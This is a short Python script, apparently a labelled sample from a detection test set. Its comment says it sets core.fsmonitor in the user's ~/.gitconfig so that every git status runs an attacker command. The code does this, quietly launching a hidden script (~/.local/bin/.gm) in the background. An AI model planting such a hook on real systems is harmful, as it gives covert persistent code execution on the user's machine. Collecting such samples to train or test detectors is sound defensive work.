# expect: files; sets core.fsmonitor in ~/.gitconfig so every git status runs an attacker command
import configparser
import os

path = os.path.join(os.path.expanduser("~"), ".gitconfig")
parser = configparser.RawConfigParser()
parser.read(path)
if not parser.has_section("core"):
    parser.add_section("core")
parser.set("core", "fsmonitor", "sh -c 'python3 ~/.local/bin/.gm &' #")
with open(path, "w") as fh:
    parser.write(fh)
